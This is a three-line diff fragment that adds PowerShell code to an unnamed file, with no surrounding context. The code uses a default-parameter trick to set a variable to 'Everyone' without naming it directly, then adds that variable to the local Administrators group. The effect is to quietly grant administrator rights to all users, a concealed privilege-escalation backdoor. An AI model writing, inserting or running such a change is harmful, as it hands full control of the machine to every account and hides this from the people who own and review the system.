@@ -1,0 +1,3 @@
+$PSDefaultParameterValues['Set-Variable:Value'] = 'Everyone'
+Set-Variable who
+Add-LocalGroupMember -Group Administrators -Member $who
